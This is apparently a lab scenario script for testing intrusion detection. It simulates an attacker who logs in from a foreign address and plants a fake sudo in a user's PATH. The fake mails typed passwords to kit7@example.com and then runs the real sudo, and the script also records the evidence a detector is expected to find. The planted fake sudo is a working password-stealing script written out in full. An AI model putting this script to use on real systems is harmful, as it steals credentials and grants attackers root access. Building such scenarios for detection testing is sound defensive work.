title="A false sudo in the person's PATH mails the password"
what="A script ~/.local/bin/sudo of ops, put there in an earlier login from a foreign address, shows sudo's prompt, mails what is typed together with id and hostname by sendmail -t in the background to kit7@example.com, says 'Sorry, try again.' and starts the real sudo. ops uses it twice in ordinary work."
host=mx1.example.org user=ops daemons="cron sshd"
setup() { echo 'ops ALL=(root) NOPASSWD: ALL' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops; }
act() {
  small_talk 2
  python3 "$lab/lib/type.py" -- nsenter -t "$outside_pid" -n -- ssh -tt -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BindAddress=203.0.113.91 -i /root/key "ops@$host_ip" <<'L'
mkdir -p ~/.local/bin
printf '#!/bin/bash\nread -rsp "[sudo] password for $USER: " p; echo\n( printf "To: kit7@example.com\\nSubject: %%s\\n\\n%%s %%s\\n" "$HOSTNAME" "$(id)" "$p" | /usr/sbin/sendmail -t -i ) >/dev/null 2>&1 &\nsleep 1; echo "Sorry, try again."\nexec /usr/bin/sudo "$@"\n' > ~/.local/bin/sudo
chmod +x ~/.local/bin/sudo
echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc
L
  sleep 2; small_talk 2
  ssh_as ops <<'L'
export PATH=$HOME/.local/bin:$PATH
mailq
%line sudo tail -n 2 /var/log/mail.log
%wait password
%keys hunter-lab\n
%sleep 3
df -h /
%line sudo ls /etc/postfix
%wait password
%keys hunter-lab\n
%sleep 3
L
  wait_log_count 'to=<kit7@example.com>.*status=sent' 2 20; small_talk 1
}
truth() {
  exec_step fake '/home/ops/.local/bin/sudo' 'the false sudo'
  mail_step sent 'to=<kit7@example.com>.*status=sent' 'the password goes outside'
}
